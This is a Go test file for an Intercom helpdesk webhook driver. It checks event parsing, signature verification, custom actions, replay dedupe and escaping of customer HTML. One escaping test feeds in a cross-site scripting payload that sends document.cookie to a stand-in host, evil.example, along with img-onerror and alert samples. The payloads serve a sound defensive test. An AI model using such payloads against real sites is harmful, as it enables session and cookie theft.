package intercom_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/stretchr/testify/require"

	"github.com/agentdesk/agentdesk/helpdesk"
	"github.com/agentdesk/agentdesk/helpdesk/drivertest"
	"github.com/agentdesk/agentdesk/intercom"
	"github.com/agentdesk/agentdesk/intercom/intercomtest"
)

func fixture(t testing.TB, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	require.NoError(t, err)
	return data
}

func deliver(t *testing.T, h helpdesk.Helpdesk, r *http.Request) ([]helpdesk.Event, error) {
	t.Helper()
	return drivertest.Deliver(context.Background(), h, r)
}

var conv101 = helpdesk.Conversation{Vendor: intercom.Vendor, Account: "abc123de", ID: "60000000101"}

func TestParseTopics(t *testing.T) {
	e := newEnv(t, nil)
	ignore := cmpopts.IgnoreFields(helpdesk.Event{}, "Raw")
	for _, tc := range []struct {
		fixture string
		want    []helpdesk.Event
	}{
		{"user_created_html.json", []helpdesk.Event{{
			Type: helpdesk.EventMessageCreated, VendorType: intercom.TopicUserCreated,
			DeliveryID: "intercom:abc123de:60000000101:403918349", OccurredAt: time.Unix(1767225598, 0).UTC(),
			Conversation: helpdesk.Conversation{Vendor: "intercom", Account: "abc123de", ID: "60000000101", Channel: helpdesk.ChannelEmail,
				Extra: map[string]string{intercom.ExtraEntry: "topic", intercom.ExtraState: "open", intercom.ExtraSourceType: "email",
					intercom.ExtraContactID: "6762f16e1bb69f9f2193bb01", intercom.ExtraTeamAssigneeID: "7286213"}},
			Message: &helpdesk.InboundMessage{ID: "403918349", Public: true, Subject: "Refund & invoice",
				Author:      helpdesk.Author{Role: helpdesk.RoleCustomer, ID: "6762f16e1bb69f9f2193bb01", Name: "Maria Silva", Email: "maria@example.com"},
				Text:        "Hi, I was charged twice <again>.\n\nSee my invoice (https://example.com/inv/42).",
				HTML:        `<p>Hi, I was charged twice &lt;again&gt;.</p><p>See <a href="https://example.com/inv/42">my invoice</a>.</p><script>alert(1)</script>`,
				Attachments: []helpdesk.Attachment{{URL: "https://downloads.intercomcdn.com/i/o/1/invoice.pdf", Name: "invoice.pdf", ContentType: "application/pdf", Size: 1024}}},
		}}},
		{"user_replied_plain.json", []helpdesk.Event{{
			Type: helpdesk.EventMessageCreated, VendorType: intercom.TopicUserReplied,
			DeliveryID: "intercom:abc123de:60000000101:136", OccurredAt: time.Unix(1767225699, 0).UTC(),
			Conversation: helpdesk.Conversation{Vendor: "intercom", Account: "abc123de", ID: "60000000101", Channel: helpdesk.ChannelWebChat,
				Extra: map[string]string{intercom.ExtraEntry: "topic", intercom.ExtraState: "open", intercom.ExtraSourceType: "conversation",
					intercom.ExtraContactID: "6762f16e1bb69f9f2193bb01", intercom.ExtraTeamAssigneeID: "7286213", intercom.ExtraAdminAssigneeID: "991267600"}},
			Message: &helpdesk.InboundMessage{ID: "136", Public: true,
				Author: helpdesk.Author{Role: helpdesk.RoleCustomer, ID: "6762f16e1bb69f9f2193bb01", Name: "Maria Silva", Email: "maria@example.com"},
				// 2.15+ plain text: what looks like markup is what the customer typed.
				Text: "Still waiting for the refund. not bold stays as typed",
				HTML: "Still waiting for the refund. <b>not bold</b> stays as typed"},
		}}},
	} {
		t.Run(tc.fixture, func(t *testing.T) {
			evs, err := deliver(t, e.client, e.signer.Request(fixture(t, tc.fixture)))
			require.NoError(t, err)
			if diff := cmp.Diff(tc.want, evs, ignore); diff != "" {
				t.Fatalf("events (-want +got):\n%s", diff)
			}
			require.JSONEq(t, string(fixture(t, tc.fixture)), string(evs[0].Raw))
		})
	}
}

func TestParseTopicKinds(t *testing.T) {
	e := newEnv(t, nil)
	for _, tc := range []struct {
		fixture string
		check   func(t *testing.T, evs []helpdesk.Event)
	}{
		{"admin_replied_self.json", func(t *testing.T, evs []helpdesk.Event) {
			require.Len(t, evs, 1)
			require.True(t, evs[0].FromSelf(), "the bot's own reply must be marked Self")
			require.False(t, evs[0].IsCustomerMessage())
			require.Equal(t, "Your refund was issued.", evs[0].Message.Text)
		}},
		{"admin_noted.json", func(t *testing.T, evs []helpdesk.Event) {
			require.Len(t, evs, 1)
			m := evs[0].Message
			require.False(t, m.Public)
			require.Equal(t, helpdesk.RoleAgent, m.Author.Role)
			require.False(t, m.Author.Self)
		}},
		{"operator_replied.json", func(t *testing.T, evs []helpdesk.Event) {
			require.Len(t, evs, 1)
			require.Equal(t, helpdesk.RoleBot, evs[0].Message.Author.Role)
			require.False(t, evs[0].Message.Author.Self, "Fin is another bot, not this one")
		}},
		{"admin_assigned.json", func(t *testing.T, evs []helpdesk.Event) {
			require.Len(t, evs, 1)
			require.Equal(t, helpdesk.EventConversationAssigned, evs[0].Type)
			require.Equal(t, &helpdesk.Assignment{GroupID: "8000105"}, evs[0].Assignment)
		}},
		{"admin_closed.json", func(t *testing.T, evs []helpdesk.Event) {
			require.Len(t, evs, 1)
			require.Equal(t, helpdesk.EventStatusChanged, evs[0].Type)
			require.Equal(t, &helpdesk.StatusChange{To: helpdesk.StatusResolved, VendorTo: "closed"}, evs[0].Status)
			require.Equal(t, "intercom:abc123de:60000000101:140", evs[0].DeliveryID)
		}},
		{"ping.json", func(t *testing.T, evs []helpdesk.Event) { require.Empty(t, evs) }},
	} {
		t.Run(tc.fixture, func(t *testing.T) {
			evs, err := deliver(t, e.client, e.signer.Request(fixture(t, tc.fixture)))
			require.NoError(t, err)
			tc.check(t, evs)
		})
	}
}

func TestParseStatusTopics(t *testing.T) {
	e := newEnv(t, nil)
	conv := e.newConversation(t)
	c, _ := e.srv.Conversation(conv.ID)
	for topic, want := range map[string]helpdesk.StatusChange{
		intercom.TopicAdminOpened:    {To: helpdesk.StatusOpen, VendorTo: "open"},
		intercom.TopicAdminSnoozed:   {To: helpdesk.StatusSnoozed, VendorTo: "snoozed"},
		intercom.TopicAdminUnsnoozed: {From: helpdesk.StatusSnoozed, VendorFrom: "snoozed", To: helpdesk.StatusOpen, VendorTo: "open"},
	} {
		t.Run(topic, func(t *testing.T) {
			evs, err := deliver(t, e.client, e.signer.Request(intercomtest.Payload(intercomtest.Event{Topic: topic, NotificationID: "n-" + topic, Conversation: c})))
			require.NoError(t, err)
			require.Len(t, evs, 1)
			require.Equal(t, helpdesk.EventStatusChanged, evs[0].Type)
			require.Equal(t, want, *evs[0].Status)
			require.Equal(t, "intercom:"+intercomtest.DefaultAppID+":"+conv.ID+":n-"+topic, evs[0].DeliveryID)
		})
	}
	t.Run("other conversation topic", func(t *testing.T) {
		evs, err := deliver(t, e.client, e.signer.Request(intercomtest.Payload(intercomtest.Event{Topic: "conversation_part.tag.created", Conversation: c})))
		require.NoError(t, err)
		require.Len(t, evs, 1)
		require.Equal(t, helpdesk.EventOther, evs[0].Type)
		require.True(t, strings.HasPrefix(evs[0].DeliveryID, "intercom:"+intercomtest.DefaultAppID+":"+conv.ID+":body-"), "no part and a null id: the body digest identifies it")
	})
}

func TestAssignmentToBot(t *testing.T) {
	e := newEnv(t, nil)
	conv := e.newConversation(t)
	c, _ := e.srv.Conversation(conv.ID)
	for _, tc := range []struct {
		name        string
		admin, team string
		toBot       bool
	}{
		{"bot's team", "", intercomtest.DefaultBotTeamID, true},
		{"bot admin", intercomtest.DefaultBotAdminID, e.n2, true},
		{"N2 team", "", e.n2, false},
		{"human", e.agent, intercomtest.DefaultBotTeamID, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c.AdminAssigneeID, c.TeamAssigneeID = tc.admin, tc.team
			evs, err := deliver(t, e.client, e.signer.Request(intercomtest.Payload(intercomtest.Event{Topic: intercom.TopicAdminAssigned, NotificationID: tc.name, Conversation: c})))
			require.NoError(t, err)
			require.Len(t, evs, 1)
			require.Equal(t, helpdesk.Assignment{AgentID: tc.admin, GroupID: tc.team, ToBot: tc.toBot}, *evs[0].Assignment)
		})
	}
}

func TestWebhookAuthentication(t *testing.T) {
	e := newEnv(t, nil)
	conv := e.newConversation(t)
	body := e.customerPayload(conv, "hello")
	action := intercom.ActionRequest{ConversationID: conv.ID, Message: "hello"}
	for _, tc := range []struct {
		name string
		req  *http.Request
		kind error // nil: accepted
	}{
		{"current secret", e.signer.Request(body), nil},
		{"secret being rotated out", (&intercomtest.Signer{Secret: oldSecret}).Request(body), nil},
		{"forged", (&intercomtest.Signer{Secret: "guess"}).Request(body), helpdesk.ErrSignatureMismatch},
		{"unsigned", e.signer.Unsigned(body), helpdesk.ErrSignatureMissing},
		{"signature not hex", func() *http.Request {
			r := e.signer.Unsigned(body)
			r.Header.Set("X-Hub-Signature", "sha1=zz")
			return r
		}(), helpdesk.ErrSignatureMismatch},
		{"sha256 in place of sha1", func() *http.Request {
			r := e.signer.Unsigned(body)
			r.Header.Set("X-Hub-Signature", "sha256="+strings.Repeat("ab", 32))
			return r
		}(), helpdesk.ErrSignatureMismatch},
		{"action token", intercomtest.ActionRequest(testActionTok, action), nil},
		{"action wrong token", intercomtest.ActionRequest("not-the-token-at-all-000", action), helpdesk.ErrSignatureMismatch},
		{"action no token", intercomtest.ActionRequest("", action), helpdesk.ErrSignatureMissing},
		{"action basic auth", func() *http.Request {
			r := intercomtest.ActionRequest("", action)
			r.SetBasicAuth("x", testActionTok)
			return r
		}(), helpdesk.ErrSignatureMismatch},
		{"client secret as action token", intercomtest.ActionRequest(testSecret, action), helpdesk.ErrSignatureMismatch},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := e.srv.Requests()
			evs, err := deliver(t, e.client, tc.req)
			require.Equal(t, before, e.srv.Requests(), "authentication must not call the API")
			if tc.kind == nil {
				require.NoError(t, err)
				require.Len(t, evs, 1)
				require.True(t, evs[0].IsCustomerMessage())
				return
			}
			require.ErrorIs(t, err, tc.kind)
			require.ErrorIs(t, err, helpdesk.ErrInvalidSignature)
			require.Equal(t, http.StatusUnauthorized, helpdesk.WebhookStatus(err))
			for _, s := range []string{testSecret, oldSecret, testActionTok} {
				require.NotContains(t, err.Error(), s)
			}
		})
	}
}

func TestCustomAction(t *testing.T) {
	e := newEnv(t, nil)
	evs, err := deliver(t, e.client, intercomtest.RawActionRequest(testActionTok, fixture(t, "action.json")))
	require.NoError(t, err)
	want := []helpdesk.Event{{
		Type: helpdesk.EventMessageCreated, VendorType: "custom_action",
		DeliveryID: "intercom:abc123de:60000000101:142", OccurredAt: time.Unix(1767225760, 0).UTC(),
		Conversation: helpdesk.Conversation{Vendor: "intercom", Account: "abc123de", ID: "60000000101", Channel: helpdesk.ChannelWhatsApp,
			Extra: map[string]string{intercom.ExtraEntry: "action", intercom.ExtraSourceType: "whatsapp",
				intercom.ExtraContactID: "6762f16e1bb69f9f2193bb01", intercom.ExtraTeamAssigneeID: "7286213", intercom.ExtraAdminAssigneeID: "991267600"}},
		Message: &helpdesk.InboundMessage{ID: "142", Public: true, Text: "Where is my order?", HTML: "<p>Where is my order?</p>",
			Author: helpdesk.Author{Role: helpdesk.RoleCustomer, ID: "6762f16e1bb69f9f2193bb01", Name: "Maria Silva", Email: "maria@example.com"}},
	}}
	if diff := cmp.Diff(want, evs, cmpopts.IgnoreFields(helpdesk.Event{}, "Raw")); diff != "" {
		t.Fatalf("events (-want +got):\n%s", diff)
	}

	t.Run("template fields left unfilled", func(t *testing.T) {
		body := strings.NewReplacer(`"142"`, `"{{conversation.last_message_id}}"`, `"whatsapp"`, `"{{conversation.channel}}"`, `"abc123de"`, `"{{workspace.id}}"`).Replace(string(fixture(t, "action.json")))
		evs, err := deliver(t, e.client, intercomtest.RawActionRequest(testActionTok, []byte(body)))
		require.NoError(t, err)
		require.Len(t, evs, 1)
		require.Equal(t, "", evs[0].Message.ID)
		require.Equal(t, helpdesk.ChannelUnknown, evs[0].Conversation.Channel)
		require.Equal(t, intercomtest.DefaultAppID, evs[0].Conversation.Account, "Config.AppID fills the account")
		require.True(t, strings.HasPrefix(evs[0].DeliveryID, "intercom:abc123de:60000000101:action-"))
	})

	t.Run("numbers for ids", func(t *testing.T) {
		evs, err := deliver(t, e.client, intercomtest.RawActionRequest(testActionTok, []byte(`{"conversation_id": 60000000101, "message": "hi"}`)))
		require.NoError(t, err)
		require.Equal(t, "60000000101", evs[0].Conversation.ID)
	})

	for _, tc := range []struct{ name, body, want string }{
		{"empty object", `{}`, "missing conversation_id and message"},
		{"no message", `{"conversation_id":"1"}`, "missing message"},
		{"placeholder conversation", `{"conversation_id":"{{conversation.id}}","message":"x"}`, "missing conversation_id"},
		{"conversation not a number", `{"conversation_id":"abc","message":"x"}`, "numeric conversation id"},
		{"array", `[1,2]`, "not the JSON object"},
		{"truncated", `{"conversation_id":"1","mess`, "truncated"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := deliver(t, e.client, intercomtest.RawActionRequest(testActionTok, []byte(tc.body)))
			require.ErrorIs(t, err, helpdesk.ErrInvalidPayload)
			require.Equal(t, http.StatusBadRequest, helpdesk.WebhookStatus(err))
			require.Contains(t, err.Error(), tc.want)
		})
	}
}

// Script tags a customer sends never reach the host as markup: Text is
// plain, and replies built from it are escaped.
func TestHTMLNeverReachesHostAsMarkup(t *testing.T) {
	e := newEnv(t, nil)
	conv := e.newConversation(t)
	ev := e.customerEvent(conv, "")
	ev.Parts[0].Body = `<p>hi</p><script>document.location='https://evil.example/'+document.cookie</script><img src=x onerror=alert(1)>`
	evs, err := deliver(t, e.client, e.signer.Request(intercomtest.Payload(ev)))
	require.NoError(t, err)
	require.Equal(t, "hi", evs[0].Message.Text)

	_, err = e.client.SendMessage(context.Background(), conv, helpdesk.Message{Text: "You wrote: <script>alert(1)</script>"})
	require.NoError(t, err)
	c, _ := e.srv.Conversation(conv.ID)
	last := c.Parts[len(c.Parts)-1]
	require.NotContains(t, last.Body, "<script>")
	require.Equal(t, "<p>You wrote: &lt;script&gt;alert(1)&lt;/script&gt;</p>", last.Body)
}

func TestParseMalformedTopics(t *testing.T) {
	e := newEnv(t, nil)
	for _, tc := range []struct{ name, body, want string }{
		{"not json", `hello`, "not valid JSON"},
		{"wrong envelope", `{"type":"event","topic":"conversation.user.replied"}`, `type must be "notification_event"`},
		{"no topic", `{"type":"notification_event"}`, "topic is missing"},
		{"no conversation id", `{"type":"notification_event","topic":"conversation.user.replied","data":{"item":{"type":"conversation"}}}`, "conversation id"},
		{"no part", `{"type":"notification_event","topic":"conversation.user.replied","data":{"item":{"type":"conversation","id":"1"}}}`, "no conversation part"},
		{"id of wrong type", `{"type":"notification_event","topic":"conversation.user.replied","data":{"item":{"type":"conversation","id":{}}}}`, "not valid JSON"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := deliver(t, e.client, e.signer.Request([]byte(tc.body)))
			require.ErrorIs(t, err, helpdesk.ErrInvalidPayload)
			require.Equal(t, http.StatusBadRequest, helpdesk.WebhookStatus(err))
			require.Contains(t, err.Error(), tc.want)
		})
	}
	t.Run("not JSON content type", func(t *testing.T) {
		r := e.signer.Request(fixture(t, "ping.json"))
		r.Header.Set("Content-Type", "text/plain")
		_, err := deliver(t, e.client, r)
		require.ErrorIs(t, err, helpdesk.ErrInvalidPayload)
	})
	t.Run("contact topic", func(t *testing.T) {
		evs, err := deliver(t, e.client, e.signer.Request([]byte(`{"type":"notification_event","topic":"contact.user.created","data":{"item":{"type":"contact","id":"c1"}}}`)))
		require.NoError(t, err)
		require.Empty(t, evs)
	})
}

// Intercom signs no time: a replayed delivery verifies again, and the
// handler's dedupe on app, conversation and part is what drops it.
func TestReplayIsDroppedByDedupe(t *testing.T) {
	e := newEnv(t, nil)
	conv := e.newConversation(t)
	body := e.customerPayload(conv, "replay me")
	var handled atomic.Int32
	h, err := helpdesk.NewWebhookHandler(e.client, func(_ context.Context, ev helpdesk.Event) error {
		if ev.IsCustomerMessage() {
			handled.Add(1)
		}
		return nil
	}, nil)
	require.NoError(t, err)
	for range 3 {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, e.signer.Request(body))
		require.Equal(t, http.StatusOK, rec.Code)
	}
	// A forged or unsigned copy is refused with 401 and no API call.
	before := e.srv.Requests()
	for _, r := range []*http.Request{e.signer.Unsigned(body), (&intercomtest.Signer{Secret: "x"}).Request(body)} {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, r)
		require.Equal(t, http.StatusUnauthorized, rec.Code)
	}
	require.Equal(t, before, e.srv.Requests())
	require.Equal(t, int32(1), handled.Load())
}

// Without BotAdminID, the echo check learns the bot's id from GET /me,
// once.
func TestSelfLearnedFromMe(t *testing.T) {
	e := newEnv(t, func(c *intercom.Config, _ *intercom.Options, _ *intercomtest.Options) { c.BotAdminID = "" })
	for range 2 {
		evs, err := deliver(t, e.client, e.signer.Request(fixture(t, "admin_replied_self.json")))
		require.NoError(t, err)
		require.True(t, evs[0].FromSelf())
	}
	require.Equal(t, 1, e.srv.RequestsTo("GET /me"))
}

// A part the app made through the API carries its app_package_code: with
// Config.AppPackageCode set it is the bot's own even under another admin
// id (a replica configured with another teammate).
func TestSelfByAppPackageCode(t *testing.T) {
	e := newEnv(t, func(c *intercom.Config, _ *intercom.Options, _ *intercomtest.Options) { c.AppPackageCode = "fake-app" })
	conv := e.newConversation(t)
	c, _ := e.srv.Conversation(conv.ID)
	c.ID = conv.ID
	for _, tc := range []struct {
		author intercomtest.Author
		code   string
		self   bool
	}{
		{intercomtest.Author{Type: "admin", ID: "555", Name: "Other teammate"}, "fake-app", true},
		{intercomtest.Author{Type: "admin", ID: "555", Name: "Other teammate"}, "", false},
		{intercomtest.Author{Type: "admin", ID: "555", Name: "Other teammate"}, "another-app", false},
		{intercomtest.Author{Type: "bot", ID: "777", Name: "Workflow"}, "fake-app", true},
	} {
		body := intercomtest.Payload(intercomtest.Event{
			Topic: intercom.TopicAdminReplied, Conversation: c,
			Parts: []intercomtest.Part{{ID: stablePartID(conv, tc.author.ID+tc.code), PartType: "comment", Body: "<p>hi</p>", Author: tc.author, AppPackageCode: tc.code}},
		})
		evs, err := deliver(t, e.client, e.signer.Request(body))
		require.NoError(t, err)
		require.Len(t, evs, 1)
		require.Equal(t, tc.self, evs[0].FromSelf(), "%+v code %q", tc.author, tc.code)
		require.False(t, evs[0].IsCustomerMessage())
	}
}
